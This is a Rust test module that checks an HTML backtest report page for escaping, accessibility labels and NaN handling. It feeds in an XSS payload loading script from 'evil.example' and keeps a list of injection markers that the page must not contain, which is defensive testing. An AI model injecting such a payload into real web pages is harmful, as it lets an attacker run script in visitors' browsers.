//! The page of a small past whose names are as bad as names can be.

use std::{collections::BTreeMap, time::Duration};

use forefend_domain::{Family, MetricKind, MetricName, Timestamp};
use forefend_predict::DayZero;
use forefend_sim::backtest::{Options, Protect, Report, plan, run};
use forefend_telemetry::history::{CellHistory, History, Incident, IncidentSource, RecordedSeries};

use super::page;

const HOSTILE: &str = "<script src=//evil.example/x.js>alert('\"&')</script>";

fn report(fails: bool) -> Report {
    let at = |s: u64| Timestamp::from_unix_ms((1_700_000_000 + s) * 1_000);
    let samples = (1..=180).map(|n| (at(n * 10), 40.0 + n as f64 / 3.0)).collect();
    let series = RecordedSeries {
        family: Family::Saturation,
        kind: MetricKind::Exhaustible,
        unit: HOSTILE.to_owned(),
        limits: vec![(at(0), Some(100.0))],
        samples,
    };
    let cell = CellHistory {
        service: "shop".parse().expect("a name"),
        series: BTreeMap::from([(MetricName::new(HOSTILE), series)]),
    };
    let id: forefend_domain::CellId = "a-1".parse().expect("a name");
    let history = History { step: Duration::from_secs(10), cells: BTreeMap::from([(id.clone(), cell)]) };
    let incident = Incident {
        cell: id,
        began: at(1_800),
        ended: None,
        kind: HOSTILE.to_owned(),
        event: HOSTILE.to_owned(),
        source: IncidentSource::Imported,
    };
    let incidents = if fails { vec![incident] } else { Vec::new() };
    let service = crate::cli::tests_support::standard();
    let protect = Protect {
        topology: Default::default(),
        otherwise: Some(service),
        as_it_stands: false,
        by_curve: Default::default(),
    };
    let options = Options { tick: Duration::from_secs(10), ..Options::default() };
    let planned = plan(&history, &incidents, &protect, &options).expect("a plan");
    run(&history, &incidents, &planned, &DayZero::default(), &options, &|_, _| {}).expect("a report")
}

#[test]
fn whatever_names_say_they_are_text() {
    let page = page(&report(true));
    assert!(page.contains("&lt;script src=//evil.example"), "the kind is shown");
    let hostile = ["<script", "evil.example/x.js>", "href=", "src=\"", "url(", "@import", "onload"];
    for bad in hostile {
        assert!(!page.contains(bad), "{bad}");
    }
    assert!(page.contains("✓ in time"), "the leak is met");
}

#[test]
fn every_picture_is_told_in_words_and_every_table_has_headings() {
    let page = page(&report(true));
    for svg in page.split("<svg ").skip(1) {
        let tag = svg.split('>').next().expect("a tag");
        assert!(tag.contains("aria-label=") || tag.contains("aria-hidden"), "{tag}");
    }
    assert_eq!(page.matches("<table>").count(), page.matches("<thead>").count());
    assert_eq!(page.matches("<section").count(), page.matches("</section>").count());
    assert_eq!(page.matches("<figure").count(), page.matches("</figure>").count());
    assert!(!page.contains("NaN") && !page.contains("inf\""));
}

#[test]
fn a_past_without_incidents_has_a_page() {
    let page = page(&report(false));
    assert!(page.contains("No incident could have been warned of"));
    assert!(!page.contains("NaN"));
}
